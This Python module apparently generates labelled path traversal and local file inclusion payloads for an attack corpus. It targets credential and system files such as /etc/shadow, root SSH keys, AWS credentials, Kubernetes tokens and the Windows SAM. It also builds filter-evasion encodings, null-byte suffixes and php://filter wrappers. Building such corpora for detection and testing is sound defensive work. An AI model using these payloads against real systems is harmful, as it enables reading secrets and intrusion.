"""Path traversal and local file inclusion: `..` steps out of the application's directory to
a sensitive file, or an absolute path names it directly.

A step is written as a backend still reads it as `../`: plain or with backslashes, with
percent-encoded dots or slashes (the placement's own URL decoding undoes one level, so
`%2e%2e%2f` arrives as `../`; `%252e` arrives as `%2e`, for the backends that decode twice),
overlong UTF-8 (`%c0%ae`), Tomcat's `..;/`, filters defeated by `....//`. The target path gets
`/./` and repeated slashes, which every file system ignores."""

from __future__ import annotations

import random

from owncorpus.grammar import Attack, draw_distinct, one

CLASS = "ptrav"
PARAMS = ("file", "path", "page", "template", "doc", "download", "include", "name", "img", "lang")

UNIX_TARGETS = ("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "etc/group",
                "root/.ssh/id_rsa", "root/.bash_history", "var/log/apache2/access.log", "etc/nginx/nginx.conf",
                "proc/self/fd/0", "etc/mysql/my.cnf", "var/run/secrets/kubernetes.io/serviceaccount/token",
                "home/app/.aws/credentials", "etc/ssh/sshd_config", "proc/version")
APP_TARGETS = ("WEB-INF/web.xml", ".env", ".git/config", "config/database.yml", "wp-config.php", "app/etc/env.php",
               ".htpasswd", "application.properties")
WINDOWS_TARGETS = ("windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config",
                   "windows/repair/sam")
STEPS = ("../", "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%c0%af", "%c0%ae%c0%ae/", "....//", "..;/",
         ".%2e/", "..%5c", "..\\/", "%252e%252e%252f", "..%255c", "%2e%2e%5c", "..././", "..%ef%bc%8f",
         "%2e%2e%c0%af", "..%252f")
PREFIXES = ("", "", "/", "./", "static/", "images/", "/var/www/html/", "uploads/../", "file://", "php://filter/resource=")
SUFFIXES = ("", "", "", "%00", "%00.png", "\x00.jpg", "?", "#", ".")


def _target_path(target: str, rng: random.Random) -> str:
    parts = target.split("/")
    form = rng.randrange(5)
    if form == 0 and len(parts) > 1:
        i = rng.randrange(1, len(parts))
        parts[i] = "./" + parts[i]
    elif form == 1 and len(parts) > 1:
        return ("/" * rng.randrange(2, 4)).join(parts)
    return "/".join(parts)


def _traversal(rng: random.Random) -> str:
    r = rng.random()
    target = one(rng, UNIX_TARGETS if r < 0.65 else APP_TARGETS if r < 0.82 else WINDOWS_TARGETS)
    step = one(rng, STEPS)
    depth = rng.randrange(2 if target in APP_TARGETS else 3, 10)
    steps = step * depth
    if rng.random() < 0.15:  # mixed steps, as scanners write them
        steps = "".join(one(rng, STEPS[:8]) for _ in range(depth))
    path = _target_path(target, rng)
    sep = "\\" if "\\" in step and rng.random() < 0.5 else "/"
    if sep == "\\":
        path = path.replace("/", "\\")
    return one(rng, PREFIXES[:8]) + steps + path + one(rng, SUFFIXES)


def _absolute(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.6:
        path = "/" + _target_path(one(rng, UNIX_TARGETS), rng)
        return one(rng, ("", "", "file://", "php://filter/convert.base64-encode/resource=", "/", "file:")) + path
    win = one(rng, WINDOWS_TARGETS).replace("/", "\\")
    return one(rng, ("C:\\", "c:/", "C:\\\\", "\\\\?\\C:\\", "file:///C:/", "\\\\127.0.0.1\\c$\\")) + win


def _compose(rng: random.Random) -> str:
    return _traversal(rng) if rng.random() < 0.8 else _absolute(rng)


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
